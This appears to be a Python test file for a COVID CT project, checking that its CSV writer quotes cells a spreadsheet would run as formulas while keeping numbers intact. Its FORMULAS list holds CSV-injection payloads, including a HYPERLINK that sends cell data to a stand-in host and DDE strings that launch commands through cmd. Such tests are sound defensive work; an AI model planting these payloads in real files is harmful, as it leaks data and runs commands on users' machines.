"""CSV output: a cell that a spreadsheet would run as a formula (OWASP CSV injection) is written as text."""

from __future__ import annotations

import csv

import numpy as np

from covidct.io import atomic_write_csv, csv_text

#: text cells a spreadsheet would read as formulas: patient folder names, free-text details
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted: quoted once more, so that reading back gives it unchanged
]
#: numbers, and text that is a number, stay numbers
NUMBERS = [-0.5, -123.4, np.float32(-1.5), np.int64(-2), 0, "-123.4", "+7", "-1e-3"]
PLAIN = ["P001", "T1-001", "", "COVID-19", "a=b"]


def test_formula_cells_are_written_as_text_and_numbers_stay_numbers(tmp_path):
    cells = FORMULAS + NUMBERS + PLAIN
    path = atomic_write_csv(tmp_path / "t.csv", ["patient", "n"], [[cell, 1] for cell in cells])
    with path.open(newline="") as f:
        written = [row[0] for row in csv.reader(f)][1:]
    formulas, numbers, plain = written[: len(FORMULAS)], written[len(FORMULAS) : -len(PLAIN)], written[-len(PLAIN) :]
    assert formulas == ["'" + cell for cell in FORMULAS]
    assert numbers == ["-0.5", "-123.4", "-1.5", "-2", "0", "-123.4", "+7", "-1e-3"]
    assert plain == PLAIN
    assert [csv_text(cell) for cell in written] == [str(cell) for cell in FORMULAS + NUMBERS + PLAIN]


def test_the_projects_csv_readers_get_back_the_ids_its_writer_neutralised(tmp_path):
    from covidct.data.split import _read_split_rows
    from covidct.predict.eval_inputs import _read_rows

    ids = ["-x", "=HYPERLINK(1)", "@p", "'quoted", "P001"]
    path = atomic_write_csv(tmp_path / "split.csv", ["patient", "subset"], [(pid, "train") for pid in ids])
    assert "'-x" in path.read_text()  # neutralised on disk, for spreadsheets
    assert list(_read_split_rows(path)) == ids  # split.csv reused as data.split_file
    assert [cells[0] for _, cells in _read_rows(path, "labels")[1:]] == ids  # predict's CSVs read by evaluate
